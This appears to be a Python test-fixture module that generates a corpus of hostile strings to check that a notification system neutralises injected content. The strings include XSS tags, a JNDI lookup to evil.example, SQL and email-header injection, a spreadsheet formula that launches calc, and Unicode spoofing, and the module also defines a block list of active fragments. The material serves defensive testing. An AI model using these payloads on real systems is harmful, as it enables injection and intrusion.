"""Hostile texts, made by rule: every kind of thing that some channel makes active, in every disguise. 600 and more.

`texts()` is the corpus, the same every time. `ACTIVE` are fragments that must not be readable as they are anywhere that a
program follows, loads, runs or mentions what it reads.
"""

import itertools
from collections.abc import Callable, Iterator
from dataclasses import replace

from tests.connectors.stories import hostile

from aegis.core.incidents import Severity
from aegis.core.notifications import Change, Notification

HOST = "evil.example"

SEEDS: dict[str, tuple[str, ...]] = {
    "mention": ("@everyone", "@here", "@channel", "<!channel>", "<!here|x>", "<@U012AB3CD>", "<@&123456789012345678>"),
    "mention by markup": ("<!subteam^S1|ops>", "<#C01|general>", "<at>all</at>", "[~accountid:5b10]", "@[Ops](user:1)"),
    "link": (f"https://{HOST}/a?b=c&d=e", f"HTTP://{HOST.upper()}", f"//{HOST}/x", f"www.{HOST}", f"ftp://{HOST}/x"),
    "link by markup": (f"[click](https://{HOST})", f"<https://{HOST}|click>", f"![x](https://{HOST}/x.png)"),
    "scheme": (
        "javascript:alert(1)",
        f"mailto:x@{HOST}",
        "tel:+491234567",
        "data:text/html,<b>x",
        "vbscript:x",
        "file:///etc/passwd",
    ),
    "html": (
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        f"<a href='https://{HOST}'>x</a>",
        "<svg/onload=x>",
    ),
    "html inside": (
        '"><b onmouseover=x>',
        "</td></table><h1>",
        "<!--",
        "]]>",
        "&lt;script&gt;",
        "&#60;img src=x&#62;",
        "<style>*{}",
    ),
    "markdown": (
        "**bold** __u__ ~~s~~",
        "||spoiler||",
        "```\ncode\n```",
        "# heading",
        "> quote",
        "- [ ] box",
        "|a|b|\n|-|-|",
    ),
    "wiki": (
        "{code}x{code}",
        "{panel:title=x}",
        "h1. big",
        "!img.png!",
        "[link|https://evil.example]",
        "{html}<b>{html}",
    ),
    "header": (
        "x\r\nBcc: victim@evil.example",
        "x\nSubject: other",
        "x\r\n\r\n<html>",
        "=?utf-8?b?PGI+?=",
        "x\r\n.\r\nMAIL FROM:<a@b>",
    ),
    "twiml": (
        "</Say><Dial>+15005550006</Dial><Say>",
        "<Play>https://evil.example/x.mp3</Play>",
        "<![CDATA[x]]>",
        "<!DOCTYPE x>",
    ),
    "template": (
        "{{7*7}}",
        "${jndi:ldap://evil.example/a}",
        "{% raw %}",
        "%s%n%x",
        "{0.__class__}",
        "{{DATE(2026-01-01)}}",
        "$(id)",
    ),
    "formula": ("=1+1", "+1-1", "@SUM(A1)", "-2+3+cmd|' /C calc'!A0"),
    "control": (
        "\x1b[31mred\x1b[0m",
        "\x1b]8;;https://evil.example\x07x\x1b]8;;\x07",
        "a\x00b",
        "a\x08\x08b",
        "a\x7fb\x9bc",
    ),
    "hidden": (
        "a\u200bb\u200dc\ufeff",
        "\u202egnp.exe\u202c",
        "\u2066x\u2069",
        "\U000e0041\U000e0042",
        "\ud800",
        "x\u2028y\u2029z",
    ),
    "address": (
        "203.0.113.9",
        "10.0.0.1:8080",
        "[2001:db8::1]",
        f"user@{HOST}",
        "evil\u3002example/x",
        "evil\uff0eexample",
    ),
    "json": ('"}],"x":[{"y":"', "\\u003cscript\\u003e", "\\", '\\\\"', "null", "\ufffd"),
    "sql": ("'; DROP TABLE x; --", "1' OR '1'='1"),
}

DISGUISES: dict[str, Callable[[str], str]] = {
    "plain": lambda text: text,
    "in a sentence": lambda text: f"failed login for {text} from here",
    "on its own line": lambda text: f"first\n{text}\nlast",
    "in brackets": lambda text: f"({text})[{text}]<{text}>",
    "in quotes": lambda text: f"\"{text}\" '{text}' `{text}`",
    "in capitals": lambda text: text.upper(),
    "split by nothing": lambda text: "\u200b".join(text[:40]),
    "twice": lambda text: f"{text}{text}",
}

ACTIVE = (
    "://",
    HOST,
    "evil.example",
    "javascript:",
    "mailto:",
    "vbscript:",
    "<!",
    "<@",
    "<script",
    "<img",
    "<a ",
    "<svg",
)


def texts() -> tuple[str, ...]:
    """Every seed in every disguise, each once, in a fixed order; and three that are only long."""
    return tuple(
        dict.fromkeys((*_made(), "A" * 70_000, "é😀&<" * 20_000, f"https://{HOST}/ @everyone <!channel> " * 2_000))
    )


def told(text: str, severity: Severity = Severity.CRITICAL, change: Change = "opened") -> Notification:
    """A notification with the text in every place where text from a log can stand; the link is always our own."""
    made = hostile(text, severity, change)
    return replace(made, link="", buttons=tuple(replace(button, url="") for button in made.buttons))


def _made() -> Iterator[str]:
    for seeds, disguise in itertools.product(SEEDS.values(), DISGUISES.values()):
        for seed in seeds:
            yield disguise(seed)
